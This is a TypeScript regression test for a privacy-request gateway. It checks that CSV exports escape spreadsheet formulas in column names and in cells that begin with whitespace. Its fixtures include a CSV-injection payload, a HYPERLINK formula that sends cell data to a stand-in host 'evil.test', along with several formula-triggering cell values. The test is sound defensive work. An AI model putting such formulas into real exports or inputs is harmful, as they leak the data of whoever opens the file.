// Issue 25, finding 7: the column names a data system sends reached the person's CSV as they were
// (`=HYPERLINK(...)` ran as a formula when the file was opened), and a cell starting with a space then `=` was left
// alone. Through HTTP: an app posts such records for an access request, and the person downloads the package.
import { TEST_ENGINES } from "@custos/db/testing";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { silentLogger } from "../../src/ground/logger.ts";
import { dataOf, startTestGateway, type TestGateway } from "../harness.ts";

const SUBMIT = "mutation ($input: SubmitRequestInput!) { submitRequest(input: $input) { request { id } } }";
const PULL = "mutation { pullRequestTasks(limit: 50) { id } }";
const COMPLETE = "mutation ($input: CompleteRequestTaskInput!) { completeRequestTask(input: $input) { status } }";
const HEADER = '=HYPERLINK("https://evil.test/?leak="&A2,"open")';
const CELLS = [" =1+1", "\u00a0@SUM(A1)", "  -2+3", "\t=cmd"];
/** A cell a spreadsheet would run: after an optional opening quote and white space, = + - or @. */
const FORMULA_CELL = /(?:^|,|\r\n)"?\s*[=+\-@]/;

describe.each(TEST_ENGINES)("issue 25: formulas in a CSV header on %s", (engine) => {
  let gateway: TestGateway;
  beforeAll(async () => {
    gateway = await startTestGateway(engine, inject("postgresAdminUrl"), silentLogger, { rateLimits: "off" });
  });
  afterAll(() => gateway[Symbol.asyncDispose]());

  it("neutralises the column names and cells whose first non-space character starts a formula", async () => {
    const create = "mutation ($input: CreateDataSystemInput!) { createDataSystem(input: $input) { key } }";
    expect((await gateway.asStaff(create, { input: { key: "crm", name: "CRM", dataCategories: ["identity"] } })).errors).toBeUndefined();
    const token = await gateway.issueKey({ kind: "SERVICE", name: "crm app", dataSystemKey: "crm" });
    const session = await gateway.shopperSession("cust-csv-1");
    const submitted = await gateway.execute(
      SUBMIT,
      { input: { type: "ACCESS", jurisdiction: "DE", contactEmail: "csv@example.com" } },
      { token: session },
    );
    const requestId = dataOf<{ request: { id: string } }>(submitted, "submitRequest").request.id;
    for (const task of dataOf<{ id: string }[]>(await gateway.execute(PULL, {}, { token }), "pullRequestTasks")) {
      const records = CELLS.map((cell) => ({ [HEADER]: cell, note: "plain" }));
      const input = { taskId: task.id, data: [{ category: "notes", records }] };
      expect((await gateway.execute(COMPLETE, { input }, { token })).errors).toBeUndefined();
    }
    await gateway.deliverMail();
    const completion = gateway.mail.sent.find(
      (mail) => (mail.payload as { requestId?: string }).requestId === requestId && mail.template === "request.completion",
    );
    const response = await fetch(`${gateway.baseUrl}${(completion?.payload as { downloadPath?: string } | undefined)?.downloadPath}`);
    expect(response.status).toBe(200);
    const { files } = (await response.json()) as { files: { path: string; content: string }[] };
    const csv = files.find((file) => file.path === "crm/notes.csv")?.content ?? "";
    expect(csv.split("\r\n")[0]).toBe(`"'=HYPERLINK(""https://evil.test/?leak=""&A2,""open"")",note`);
    expect(csv).toContain("' =1+1");
    expect(csv).not.toMatch(FORMULA_CELL);
  });
});
